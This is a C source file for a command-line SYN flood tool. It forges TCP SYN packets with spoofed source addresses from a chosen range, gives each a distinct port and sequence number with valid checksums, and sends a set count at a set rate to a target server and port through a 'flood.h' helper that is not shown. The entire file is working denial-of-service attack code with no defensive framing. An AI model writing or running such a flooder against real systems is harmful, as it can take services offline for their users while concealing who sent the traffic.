// SPDX-License-Identifier: Apache-2.0
// syn_flood DEVICE GATE-MAC COUNT RATE FIRST-SOURCE SOURCES SERVER PORT
// Sends COUNT SYNs at about RATE a second from SOURCES addresses beginning at FIRST-SOURCE, each
// frame with a source port and ISN of its own. Checksums are right: nothing but the source is false.
#include "flood.h"

static uint32_t first, sources, server, port;

// MSS 1460 is the only option.
static int make_syn(uint8_t* f, uint32_t n) {
    static const uint8_t tcp[] = {0x60, 0x02, 0xfa, 0xf0, 0, 0, 0, 0, 2, 4, 5, 0xb4};
    const int length = kTcpAt + 24;
    put32(f + kIpAt + 12, first + n % sources), put32(f + kIpAt + 16, server);
    put16(f + kTcpAt, 1024 + n % 60000), put16(f + kTcpAt + 2, port);
    put32(f + kTcpAt + 4, n * 2654435761u), put32(f + kTcpAt + 8, 0);
    memcpy(f + kTcpAt + 12, tcp, sizeof tcp);
    finish_ip(f, length), finish_tcp(f, length);
    return length;
}

int main(int argc, char** argv) {
    uint8_t gate[6], own[6] = {2, 0x0a, 0, 0, 0, 0x77};
    if (argc != 9 || !read_mac(argv[2], gate)) return fprintf(stderr, "usage: see the source\n"), 2;
    first = ntohl(inet_addr(argv[5])), sources = (uint32_t)atol(argv[6]);
    server = ntohl(inet_addr(argv[7])), port = (uint32_t)atol(argv[8]);
    return flood(argv[1], (uint32_t)atol(argv[3]), atof(argv[4]), gate, own, make_syn);
}
